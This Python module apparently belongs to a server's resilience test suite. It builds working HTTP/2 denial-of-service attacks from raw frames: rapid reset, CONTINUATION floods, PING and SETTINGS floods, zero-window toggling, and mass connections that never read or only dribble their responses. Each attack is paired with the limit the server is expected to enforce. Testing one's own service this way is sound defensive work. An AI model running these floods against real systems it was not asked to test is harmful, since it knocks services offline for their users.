"""Attacks on HTTP/2: responses that are not received, and frames that cost the server more than the client."""

import functools, time

from lib import http2
from lib.attacks import NO_RATE_LIMIT, Attack
from lib.attacks_sockets import Hold, flood, hold
from lib.clients import attacker, user_path
from lib.processes import AUTHORIZATION

CONNECTIONS, STREAMS = 100, 100
FLOODS = [attacker(number) for number in range(4)]  # connections at once


def requests(paths, streams=STREAMS, window=0):
    """The beginning of a connection with a request on each stream, whose responses may have `window` bytes."""
    blocks = [http2.get(path, AUTHORIZATION) for path in paths]
    message = http2.PREFACE + http2.settings(window=window) + http2.frame(http2.SETTINGS, http2.ACK)
    return message + b"".join(http2.request(1 + 2 * stream, blocks[stream % len(blocks)]) for stream in range(streams))


def never_read(context, paths, piece=b"", interval=1.0, connections=CONNECTIONS):
    addresses = [attacker(number) for number in range(connections)]
    [held] = context.attack((hold, Hold(addresses, requests(paths), piece, interval, reads=False, reopen=0.1)))
    return held.closed()


def flooded(context, message, endless=b""):
    [result] = context.attack((flood, FLOODS, message, endless))
    return result.closed()


def rapid_reset(context):
    block = http2.get(user_path(5), AUTHORIZATION)
    cancel = (8).to_bytes(4, "big")
    streams = (http2.request(stream, block) + http2.frame(http2.RST_STREAM, 0, stream, cancel) for stream in range(1, 40_000, 2))
    return flooded(context, http2.PREFACE + http2.settings() + b"".join(streams))


def continuation(context):
    headers = b"".join(http2.header(f"x-{number}", "v" * 100) for number in range(140))
    begin = http2.frame(http2.HEADERS, http2.END_STREAM, 1, http2.get(user_path(5), AUTHORIZATION))
    endless = http2.frame(http2.CONTINUATION, 0, 1, headers) * 16
    return flooded(context, http2.PREFACE + http2.settings() + begin, endless)


def frames(context, one):
    return flooded(context, http2.PREFACE + http2.settings(), one * (65536 // len(one)))


def pings_with_requests(context):
    """Pays for the frames: each request, which is not limited by address, adds 64 KiB to the allowance."""
    pings, block = http2.frame(http2.PING, payload=bytes(8)) * 3_700, http2.get("/health")
    requests = b"".join(http2.request(stream, block) + pings for stream in range(1, 1_000, 2))
    return flooded(context, http2.PREFACE + http2.settings() + requests)


def dribble(context):
    """Receives a byte of the responses of each connection every five seconds, which is progress."""
    return never_read(context, ["/users?limit=20"], http2.window_update(1, 1), 5.0, 250)


LIST = "/users?limit=100"
UNSENT = "32 MiB of unsent responses, no progress in 10 to 20 s, a response received within 30 s"
ALLOWANCE = "256 KiB of frames without requests"
ATTACKS = {
    "http2-never-read": Attack(
        "HTTP/2, window 0: 100 connections × 100 streams, `/openapi.json` and `GET /users?limit=100`", UNSENT,
        functools.partial(never_read, paths=["/openapi.json", LIST]), NO_RATE_LIMIT, 25),
    "http2-fill": Attack(
        "the same with `GET /users?limit=100` only, more than 64 MiB", UNSENT, functools.partial(never_read, paths=[LIST]),
        NO_RATE_LIMIT, 25),
    "http2-never-read-pings": Attack(
        "the same with `/openapi.json` only, whose bytes are shared, and a PING every 75 s", UNSENT,
        functools.partial(never_read, paths=["/openapi.json"], piece=http2.frame(http2.PING, payload=bytes(8)), interval=75.0),
        NO_RATE_LIMIT, 100),
    "http2-dribble": Attack(
        "HTTP/2, window 0: 250 connections × 100 streams of `GET /users?limit=20`, a window of one byte every 5 s", UNSENT,
        dribble, NO_RATE_LIMIT, 60),
    "http2-rapid-reset": Attack("HTTP/2 rapid reset (HEADERS, RST_STREAM)", "20 reset streams that wait", rapid_reset,
                                NO_RATE_LIMIT),
    "http2-continuation": Attack("HTTP/2 CONTINUATION flood", "16 KiB of headers, few CONTINUATION frames", continuation),
    "http2-ping": Attack("HTTP/2 PING flood", ALLOWANCE,
                         functools.partial(frames, one=http2.frame(http2.PING, payload=bytes(8)))),
    "http2-ping-requests": Attack("the same with a GET /health for each 3,700 PINGs (63 kB)", "64 KiB of frames for each request",
                                  pings_with_requests),
    "http2-settings": Attack("HTTP/2 SETTINGS flood", ALLOWANCE, functools.partial(frames, one=http2.settings(window=65535))),
    "http2-zero-window": Attack("HTTP/2 SETTINGS flood that switches the window of 100 open streams between 0 and 1",
                                ALLOWANCE, lambda context: flooded(context, requests([LIST]), 2000 * (
                                    http2.settings(window=1) + http2.settings(window=0))), NO_RATE_LIMIT),
}
